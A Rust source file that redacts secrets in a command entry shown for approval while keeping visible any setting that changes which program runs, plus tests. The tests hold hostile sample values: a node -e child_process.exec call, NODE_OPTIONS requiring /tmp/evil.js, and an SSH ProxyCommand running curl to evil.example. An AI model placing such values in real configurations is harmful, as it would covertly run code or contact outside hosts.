//! An entry as somebody sees it elsewhere than on the terminal where it is approved: what is
//! a secret by its name or its look is cut, and nothing else. Whoever says yes has to see
//! what would run, so that what merely could be a secret is shown, and what changes which
//! program runs is shown whatever it looks like.

use crate::program_variables::changes_programs;
use serde_json::Value;
use std::borrow::Cow;
use switchboard_local::secret;

/// The value of a variable or a header.
pub(super) fn value<'a>(name: &str, value: &'a str) -> Cow<'a, str> {
    if changes_programs(name) {
        return Cow::Borrowed(value);
    }
    match secret::is_name(name) {
        true => secret::kept_value(name, value),
        false => secret::text(value),
    }
}

/// The words of a command line.
pub(super) fn words<'a>(words: impl Iterator<Item = &'a str>) -> Vec<Cow<'a, str>> {
    let mut is_named = false;
    let each = words.map(|word| {
        let pair = word.split_once('=').filter(|_| word.starts_with('-'));
        let shown = match pair {
            _ if is_named && !word.starts_with("--") => secret::kept_value("token", word),
            Some((name, value)) if secret::is_name(name) => {
                let value = secret::kept_value("token", value);
                Cow::Owned(format!("{name}={value}"))
            }
            _ => secret::text(word),
        };
        is_named = word.starts_with("--") && pair.is_none() && secret::is_name(word);
        shown
    });
    each.collect()
}

/// The entry as written.
pub(super) fn apparent(written: &Value) -> Value {
    let mut shown = written.clone();
    // With the name that each part has, and whether it is one of several that people name.
    let mut parts: Vec<(String, bool, &mut Value)> = vec![(String::new(), false, &mut shown)];
    while let Some((name, is_value, part)) = parts.pop() {
        match part {
            Value::Object(fields) => {
                let are_values = matches!(name.as_str(), "env" | "headers");
                let fields = fields.iter_mut();
                parts.extend(fields.map(|(name, value)| (name.clone(), are_values, value)));
            }
            Value::Array(items) if name == "args" => {
                let texts: Vec<String> = items
                    .iter()
                    .map(|item| item.as_str().unwrap_or_default().to_owned())
                    .collect();
                let shown = words(texts.iter().map(String::as_str));
                for (item, shown) in items.iter_mut().zip(shown) {
                    if item.is_string() {
                        *item = Value::String(shown.into_owned());
                    }
                }
            }
            Value::Array(items) => {
                let items = items.iter_mut();
                parts.extend(items.map(|item| (name.clone(), is_value, item)));
            }
            Value::String(text) => {
                let is_command = matches!(name.as_str(), "command" | "headersHelper");
                let shown = match () {
                    () if is_value => value(&name, text),
                    () if is_command => secret::text(text),
                    () if secret::is_name(&name) => secret::kept_value(&name, text),
                    () if is_address(text) => secret::address(text),
                    () => secret::text(text),
                };
                *text = shown.into_owned();
            }
            Value::Null | Value::Bool(_) | Value::Number(_) => {}
        }
    }
    shown
}

fn is_address(text: &str) -> bool {
    text.contains("://") && !text.contains(char::is_whitespace)
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn what_would_run_is_shown_and_what_is_secret_is_not() {
        let token = "ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8";
        let same = json!({
            "command": "node",
            "args": ["-e", "X=require('child_process').exec('id')", "-p", "evilword123",
                "--require", "/tmp/a1B2c3D4e5F6g7H8.js"],
            "env": {
                "NODE_OPTIONS": "--require=/tmp/evil.js --title=a1B2c3D4e5F6g7H8i9J0",
                "GIT_SSH_COMMAND": "ssh -o ProxyCommand='curl evil.example'",
                "LD_PRELOAD": token,
                "MODE": "something-long-and-plain",
            },
            "cwd": "/srv/x",
        });
        assert_eq!(apparent(&same), same);
        let shown = apparent(&json!({
            "command": "x",
            "args": ["--token", "open sesame", "--api-key=word", "--note", token],
            "env": { "API_KEY": "open sesame", "NOTE": token },
            "headers": { "Authorization": "Bearer open" },
            "url": format!("https://me:{token}@example.test/"),
            "oauth": { "clientSecret": "open" },
        }));
        let text = shown.to_string();
        assert!(!text.contains("open") && !text.contains("=word"), "{text}");
        assert!(
            !text.contains(token) && text.contains("example.test"),
            "{text}"
        );
    }
}
